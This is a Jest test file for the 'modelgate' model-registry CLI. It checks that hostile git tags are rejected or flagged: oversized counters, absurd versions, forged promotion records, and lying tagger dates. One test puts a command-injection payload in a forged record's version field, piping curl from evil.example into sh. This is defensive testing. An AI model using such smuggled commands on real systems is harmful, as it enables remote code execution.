import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { runCli } from '../helpers/cli.js'
import { gitRepo } from '../helpers/git.js'

/*
 * Attacks on the registry by someone who may push tags (issue "Trust the verdict", section 2),
 * each carried out against the CLI on a real git repository: hostile counters, absurd versions,
 * forged and contradicting records, unverified tags, and tagger dates that lie about order.
 */

const POLICY = `version: 1
model: churn
stages: [dev, staging, prod]
transitions:
  - to: staging
    gates:
      - { id: auc-floor, metric: offline.auc, min: 0.80 }
`

let repo: ReturnType<typeof gitRepo>
beforeEach(() => {
  repo = gitRepo()
  repo.write('policy.yaml', POLICY)
  repo.write('offline.json', '{"auc": 0.9}')
})
afterEach(() => repo.cleanup())

const cli = (...argv: string[]) => runCli(argv, { cwd: repo.dir })
const promoteWithEvidence = (version: string) =>
  cli(
    'promote',
    '--policy',
    'policy.yaml',
    '--model',
    'churn',
    '--version',
    version,
    '--to',
    'staging',
    '--evidence',
    'offline=offline.json'
  )
const resolveJson = async (...extra: string[]) => {
  const run = await cli('resolve', '--model', 'churn', '--stage', 'staging', '--format', 'json', ...extra)
  return JSON.parse(run.stdout) as {
    verified_only: boolean
    versions: Array<{ version: string; tag: string; verified: boolean }>
  }
}
const historyJson = async () =>
  (
    JSON.parse((await cli('history', '--model', 'churn', '--format', 'json')).stdout) as {
      events: Array<{
        kind: string
        tag: string
        counter: string | null
        problems: string[]
        verified: boolean
      }>
    }
  ).events

/** A tag pushed by hand (`git tag -a`), as an attacker with push access would. */
const hostileTag = (name: string, message: string, commit: string, seconds = 0) =>
  repo.tagAt(seconds, '-a', name, '-m', message, commit)

function registerAt(version: string): string {
  const commit = repo.commit(`train ${version}`)
  return commit
}

async function registered(version: string): Promise<string> {
  const commit = registerAt(version)
  expect((await cli('register', '--model', 'churn', '--version', version)).code).toBe(0)
  return commit
}

describe('counters are exact at any size', () => {
  it('a 22-digit counter tag: the next promote is one resolve sees', async () => {
    const c1 = await registered('1')
    hostileTag('churn#staging#1000000000000000000000', 'Assigning staging', c1)
    await registered('2')
    const run = await promoteWithEvidence('2')
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/PROMOTE/)
    const resolved = await resolveJson()
    expect(resolved.versions.map((v) => v.version)).toEqual(['v2.0.0'])
    expect(resolved.versions[0]!.tag).toBe('churn#staging#1000000000000000000001')
    expect(repo.git('tag', '-l', 'churn#staging#*').split('\n')).toContain(
      'churn#staging#1000000000000000000001'
    )
  })

  it('a counter above 2^53 denies no later promote', async () => {
    const c1 = await registered('1')
    hostileTag('churn#staging#9007199254740993', 'Assigning staging', c1)
    for (const v of ['2', '3', '4']) {
      await registered(v)
      const run = await promoteWithEvidence(v)
      expect(run.stderr).toBe('')
      expect(run.code).toBe(0)
      expect((await resolveJson()).versions.map((o) => o.version)).toEqual([`v${v}.0.0`])
    }
    const counters = (await historyJson()).map((e) => e.counter).filter((c) => c !== null)
    expect(counters).toEqual(
      expect.arrayContaining(['9007199254740994', '9007199254740995', '9007199254740996'])
    )
  })

  it('a counter past 40 digits is not a tag modelgate reads, and says so when it blocks the next counter', async () => {
    const c1 = await registered('1')
    hostileTag(`churn#staging#${'9'.repeat(40)}`, 'Assigning staging', c1)
    await registered('2')
    const run = await promoteWithEvidence('2')
    expect(run.code).toBe(2)
    expect(run.stderr).toContain(`churn#staging#${'9'.repeat(40)}`)
    expect(run.stderr).toMatch(/delete that tag/)
  })
})

describe('versions are exact or refused', () => {
  it('--version 9007199254740993 is refused, not rounded to another version', async () => {
    registerAt('big')
    const run = await cli('register', '--model', 'churn', '--version', '9007199254740993')
    expect(run.code).toBe(2)
    expect(run.stderr).toMatch(/above 9007199254740991/)
    expect(repo.git('tag', '-l')).toBe('')
  })

  it('a 23-digit version is refused, never written as v1e+23.0.0', async () => {
    registerAt('huge')
    const run = await cli('register', '--model', 'churn', '--version', '1'.padEnd(23, '0'))
    expect(run.code).toBe(2)
    expect(repo.git('tag', '-l')).toBe('')
    expect(run.stderr).not.toContain('e+')
  })

  it('a hand-pushed registration with an absurd version counts for nothing', async () => {
    const commit = registerAt('x')
    hostileTag('churn@v99999999999999999999.0.0', 'Registering', commit)
    hostileTag('churn#staging#1', 'Assigning staging', commit, 1)
    const resolved = await cli('resolve', '--model', 'churn', '--stage', 'staging')
    expect(resolved.code).toBe(1)
    const events = await historyJson()
    expect(events.find((e) => e.tag === 'churn@v99999999999999999999.0.0')?.kind).toBe('invalid')
  })
})

describe('records decide, not tag names alone', () => {
  const forged = (version: string, extra: Record<string, unknown> = {}) =>
    `promote churn\n\n${JSON.stringify({
      schema: 'modelgate/promotion-record/v1',
      event: 'promotion',
      model: 'churn',
      version,
      from_stage: 'dev',
      to_stage: 'staging',
      decision: 'promote',
      gates: [],
      approvals: [],
      rollout: null,
      rollback_to: null,
      baseline: { version: null },
      evidence: [],
      created_at: '2026-11-22T08:00:00.000Z',
      ...extra
    })}\n`

  it('a forged record naming a shell payload on an unregistered commit never reaches resolve', async () => {
    await registered('1')
    expect((await promoteWithEvidence('1')).code).toBe(0)
    const stray = repo.commit('attacker commit')
    const payload = 'v9.9.9";curl https://evil.example/x|sh;echo "'
    hostileTag('churn#staging#50', forged(payload), stray, 10_000_000)
    const run = await cli('resolve', '--model', 'churn', '--stage', 'staging')
    expect(run.stdout).toBe('v1.0.0\n')
    const events = await historyJson()
    const bad = events.find((e) => e.tag === 'churn#staging#50')!
    expect(bad.kind).toBe('invalid')
    expect(bad.problems.join(' ')).toMatch(/holds no registered version/)
    const text = await cli('history', '--model', 'churn')
    expect(text.stdout).toMatch(/invalid .*churn#staging#50/)
  })

  it('an assignment whose record is a blocked attempt, another stage or another version never counts', async () => {
    const c1 = await registered('1')
    expect((await promoteWithEvidence('1')).code).toBe(0)
    const c2 = await registered('2')
    hostileTag('churn#staging#60', forged('v2.0.0', { decision: 'block', event: 'blocked' }), c2, 10_000_000)
    hostileTag('churn#staging#61', forged('v2.0.0', { to_stage: 'prod' }), c2, 10_000_001)
    hostileTag('churn#staging#62', forged('v9.9.9'), c2, 10_000_002)
    hostileTag(
      'churn#staging#63',
      `promote\n\n{"schema":"modelgate/promotion-record/v1","model":1}\n`,
      c2,
      10_000_003
    )
    void c1
    expect((await resolveJson()).versions.map((v) => v.version)).toEqual(['v1.0.0'])
    const events = await historyJson()
    for (const tag of ['churn#staging#60', 'churn#staging#61', 'churn#staging#62', 'churn#staging#63']) {
      const event = events.find((e) => e.tag === tag)!
      expect(event.kind).toBe('invalid')
      expect(event.problems[0]).toMatch(/^its record /)
    }
  })
})

describe('tags without a modelgate record', () => {
  it('count (GTO compatibility) but are marked unverified, and --verified ignores them', async () => {
    await registered('1')
    expect((await promoteWithEvidence('1')).code).toBe(0)
    const c2 = await registered('2')
    hostileTag('churn#staging#40', 'Assigning staging to v2 (by hand)', c2, 10_000_000)
    const all = await resolveJson()
    expect(all.versions.map((v) => [v.version, v.verified])).toEqual([
      ['v2.0.0', false],
      ['v1.0.0', true]
    ])
    const verified = await resolveJson('--verified')
    expect(verified.verified_only).toBe(true)
    expect(verified.versions.map((v) => [v.version, v.verified])).toEqual([['v1.0.0', true]])
    const text = await cli('resolve', '--model', 'churn', '--stage', 'staging', '--verified')
    expect(text.stdout).toBe('v1.0.0\n')
    const events = await historyJson()
    expect(events.find((e) => e.tag === 'churn#staging#40')).toMatchObject({
      kind: 'promotion',
      verified: false
    })
    expect((await cli('history', '--model', 'churn')).stdout).toMatch(/promotion \(unverified\)/)
  })
})

describe('order: counters win over tagger dates', () => {
  it('a later counter with an earlier tagger date is ordered by its counter and flagged', async () => {
    const c1 = await registered('1')
    const c2 = await registered('2')
    // v2's assignment claims an earlier date (a skewed clock, or a date sent over the API).
    hostileTag('churn#staging#1', 'Assigning staging to v1', c1, 1000)
    hostileTag('churn#staging#2', 'Assigning staging to v2', c2, 10)
    expect((await resolveJson()).versions.map((v) => v.version)).toEqual(['v2.0.0', 'v1.0.0'])
    const events = await historyJson()
    const flagged = events.find((e) => e.tag === 'churn#staging#2')!
    expect(flagged.problems.join(' ')).toMatch(/earlier than that of churn#staging#1.*ordered by counter/)
    const order = events.filter((e) => e.counter !== null).map((e) => e.tag)
    expect(order).toEqual(['churn#staging#1', 'churn#staging#2'])
  })
})
